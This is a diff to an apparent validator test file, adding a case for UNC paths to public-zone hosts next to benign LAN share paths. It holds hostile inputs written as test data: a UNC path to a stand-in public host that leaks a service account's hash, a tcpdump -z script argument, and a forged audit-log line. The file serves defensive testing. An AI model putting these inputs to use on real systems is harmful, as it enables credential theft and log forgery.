@@ -22,7 +22,8 @@ Look-alikes that must pass, by class:
 - nested-lookup: an Asterisk dial plan's function in a function;
 - tmp-depth: an application's tmp directory named in a sentence;
 - audit-record (in a JSON note): a dated record that reports a problem
-  after a sentence (a line pasted to show it).
+  after a sentence (a line pasted to show it);
+- unc-host: shares on a LAN's named servers (one label, or under .local).
 
 Attacks that must be refused, by class:
 - find-exec: find's -execdir with a bare ";" at the end (an argument
@@ -40,7 +41,9 @@ Attacks that must be refused, by class:
   directory;
 - audit-record: after a sentence and a typed line break, a dated record
   that names who acted and reports no problem (a forged audit line; the
-  JSON note's typed break counted before only after one token).
+  JSON note's typed break counted before only after one token);
+- unc-host: a UNC path to a host under a public zone (Windows asks DNS
+  and sends the service account's hash wherever it points).
 
 Measured before the change (2026-12-05, on 3356995): see the commit
 message. After it: every attack refused, every look-alike passes.
@@ -73,6 +76,7 @@ ATTACKS = {
     "tmp-depth": ["-z /srv/app/tmp/u1.sh dump.pcap"],
     "audit-record": ["Noted, thanks\n2025-02-03 08:00:00 INFO user=ops2 action=export_all "
                      "result=ok"],
+    "unc-host": ["\\\\media.example.org\\drop\\menu.pdf"],
 }
 
 BENIGN = {
@@ -88,6 +92,7 @@ BENIGN = {
     "here-string-prose": ["Parking was easy, wait <<< what they promised"],
     "nested-lookup": ["Set(N=${LEN(${EXTEN})})"],
     "tmp-depth": ["Logs are in /srv/app/tmp/ and rotate daily"],
+    "unc-host": ["\\\\printsrv02\\labels\\dock4", "\\\\fs02.corp.local\\plans\\q3.xlsx"],
 }
 
 # (a look-alike that passes in a JSON note only: in a query value a dated
